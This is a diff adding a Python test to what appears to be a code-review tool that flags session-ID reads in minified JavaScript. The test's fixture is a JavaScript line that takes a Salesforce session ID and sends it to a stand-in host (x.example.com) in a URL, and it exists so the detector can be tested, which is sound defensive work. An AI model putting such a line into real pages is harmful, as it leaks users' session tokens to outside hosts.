@@ -298,3 +298,12 @@ def test_a_grammar_module_not_found_falls_back_to_the_packs_lookup(monkeypatch: 
         assert tree.root_node.type == "parser_output" and not tree.root_node.has_error
     finally:
         parsers.grammar.cache_clear()
+
+
+def test_a_skipped_minified_file_says_which_session_reads_it_holds() -> None:
+    text = b"var s=sforce.connection.sessionId;window.open('https://x.example.com?sid='+s);" * 3
+    source, (note,) = read_source("grid.js", text, "", ReadLimits(max_line_chars=100))
+    assert source is None and note.code == "line-too-long"
+    assert note.message.endswith("it mentions sforce.connection.sessionId (3): review those uses by hand")
+    _, (quiet,) = read_source("lib.js", b"var a=1;" * 20, "", ReadLimits(max_line_chars=100))
+    assert "mentions" not in quiet.message
